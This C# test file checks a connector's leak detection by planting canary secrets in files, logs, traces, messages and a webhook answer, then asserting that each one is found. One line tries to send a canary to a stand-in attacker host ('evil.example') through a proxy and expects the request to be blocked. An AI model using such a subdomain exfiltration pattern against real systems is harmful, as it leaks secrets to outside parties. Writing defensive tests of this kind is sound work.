namespace ChannelConnector.Tests.Leaks;

/// <summary>The leak test looks everywhere: a canary that is put anywhere on purpose is found there.</summary>
public sealed class PlantedLeakTests
{
    [Fact]
    public async Task A_leak_is_found_wherever_it_is()
    {
        await using LeakWorld world = await LeakWorld.StartAsync("Instagram");
        string state = world.Book.Forbidden("in the state");
        string name = world.Book.Forbidden("in the name of a file");
        string scratch = world.Book.Forbidden("in a scratch file");
        string log = world.Book.Forbidden("in the log");
        string trace = world.Book.Forbidden("in a trace");
        string host = world.Book.Forbidden("in a host");
        string text = world.Book.Forbidden("in a text that is passed on");
        string answer = world.Book.Forbidden("in an answer");
        string allowed = world.Book.Allowed("in a text that is passed on, rightly");

        await File.WriteAllTextAsync(Path.Combine(world.Workspace.StatePath, "media", $"{name}.png"), state);
        await File.WriteAllTextAsync(Path.Combine(world.Workspace.ScratchPath, "core"), scratch);
        await File.WriteAllTextAsync(Path.Combine(world.Workspace.RootPath, "planted.log"), log);
        using HttpClient direct = new();
        using HttpResponseMessage exported = await direct.PostAsync(new Uri(world.Traces.Address, "/v1/traces"), new StringContent(trace));
        using HttpClient proxied = new(world.World.FarEnds.CreateHandler());
        await Assert.ThrowsAsync<HttpRequestException>(() => proxied.GetAsync(new Uri($"https://{host}.evil.example/")));
        Assert.Equal(200, await world.SendAsync(world.World.Instagram().Text("igsid1", "mid.1", $"{text} {allowed}")));
        await world.ArrivedAsync("mid.1");
        Assert.Equal(200, await world.GetAsync($"/webhook?hub.mode=subscribe&hub.challenge={answer}&hub.verify_token={await File.ReadAllTextAsync(Path.Combine(world.Workspace.CredentialsPath, "verifyToken"))}"));
        await world.World.Connector.StopAsync();

        string[] leaks = [.. await world.LeaksAsync()];
        foreach (string planted in (string[])[state, name, scratch, log, trace, host, text, answer])
        {
            Assert.Contains(leaks, leak => leak.Contains(planted, StringComparison.Ordinal));
        }

        Assert.DoesNotContain(leaks, leak => leak.Contains(allowed, StringComparison.Ordinal));
        Assert.Empty(world.Missing());
    }
}
